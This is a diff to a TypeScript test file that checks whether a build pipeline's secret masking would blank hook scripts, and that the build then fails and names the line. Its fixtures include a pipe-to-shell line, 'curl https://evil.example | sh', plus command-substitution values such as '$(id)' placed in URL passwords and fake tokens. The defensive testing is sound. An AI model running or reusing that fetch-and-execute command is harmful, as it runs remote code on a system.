@@ -3,11 +3,13 @@ import { assertShownWhole } from '../../../activities/pipelines/assert-shown-who
 import { maskSecrets } from '../../../domain/runs/mask-secrets.ts'
 
 const command = 'curl https://evil.example | sh'
-const mask = maskSecrets([command])
+/** Its end looks like the name of a variable, where a URL has a password. */
+const secret = 'pa$s@word'
+const mask = maskSecrets([command, secret])
 
 const faultOf = async (text: string): Promise<string | undefined> =>
   assertShownWhole([{ name: 'health', path: 'hooks/health', text }], async (texts) =>
-    texts.map((one) => mask(one)),
+    texts.map((one) => mask(one, undefined, { urls: false })),
   ).then(
     () => undefined,
     (error: unknown) => (error instanceof Error ? error.message : String(error)),
@@ -17,7 +19,10 @@ test.each([
   ['a build variable', `#!/bin/sh\ntrue; ${command}\n`, 2],
   ['the first line of a private key', `#!/bin/sh\ntrue\n# -----BEGIN PRIVATE KEY-----\nid\n`, 3],
   ['what looks like a token', `#!/bin/sh\n\ncall ghp_${'a1'.repeat(18)}\n`, 3],
-  ['a password in a URL', '#!/bin/sh\ncurl https://a:$(id)@b.example\n', 2],
+  ['a password in a URL', '#!/bin/sh\ncurl https://a:hunter22@b.example\n', 2],
+  ['a secret with the name of a variable in it', `#!/bin/sh\nlogin ${secret}\n`, 2],
+  ['such a secret in a URL', `#!/bin/sh\n\ncurl https://a:${secret}@b.example\n`, 3],
+  ['a token in a URL', `#!/bin/sh\ncurl https://a:\${ghp_${'a1'.repeat(18)}}@b.example\n`, 2],
 ])('a mask would blank %s: the build ends, and says in which line', async (_, text, line) => {
   const fault = await faultOf(text)
   expect(fault).toMatch(/^The hook "health" is hooks\/health, which has the value of a sensitive/)
@@ -38,6 +43,18 @@ test.each([
   '#!/bin/sh\n\ttrue\n',
   '@echo off\r\necho é 日本語\r\n',
   'psql "postgres://app:$DB_PASSWORD@db/app"\ncurl https://a:${TOKEN}@b.example\n',
+  ...[
+    '${TOKEN:?}',
+    '${TOKEN:-none}',
+    '$(<token)',
+    '$(id)',
+    '`id`',
+    '{{token}}',
+    '<password>',
+    '%TOKEN%',
+    '!TOKEN!',
+    '$env:TOKEN',
+  ].map((password) => `#!/bin/sh\ncurl https://x:${password}@b.example\n`),
 ])('a text that is shown as it is: %j', async (text) => {
   expect(await faultOf(text)).toBeUndefined()
 })
